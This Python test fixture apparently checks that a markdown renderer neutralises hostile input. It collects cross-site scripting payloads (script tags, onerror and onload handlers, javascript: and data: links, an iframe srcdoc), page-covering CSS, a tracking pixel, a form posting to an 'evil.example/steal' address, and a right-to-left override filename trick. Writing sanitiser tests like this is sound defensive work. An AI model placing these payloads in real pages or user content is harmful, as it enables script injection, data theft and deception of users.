"""Guidelines, descriptions and answers written to run script if anything lets them."""

from __future__ import annotations

HOSTILE_MARKDOWN = "\n\n".join(
    [
        "# Guidelines <script>window.__pwned = 1; alert('script')</script>",
        '<img src=x onerror="window.__pwned=2;alert(2)">',
        '<svg onload="window.__pwned=3"><script>alert(3)</script></svg>',
        '<iframe src="javascript:window.top.__pwned=4"></iframe>',
        '<iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
        "<style>body{display:none}</style>",
        '<div style="position:fixed;inset:0;background:red">covered</div>',
        "[click me](javascript:window.__pwned=6)",
        "[data](data:text/html,<script>alert(7)</script>)",
        "![pixel](https://tracker.example/pixel.gif)",
        '<a href="javascript:alert(8)" onclick="alert(8)">x</a>',
        '<form action="https://evil.example/steal"><button>go</button></form>',
        '<input autofocus onfocus="window.__pwned=9">',
        "reversed: \u202eexe.txt\u202c done",
        "long: " + "A" * 5000,
        "Keep reading: **bold** and a [real link](https://example.org).",
    ]
)
"""Markdown with every trick in one document; it must render inert."""
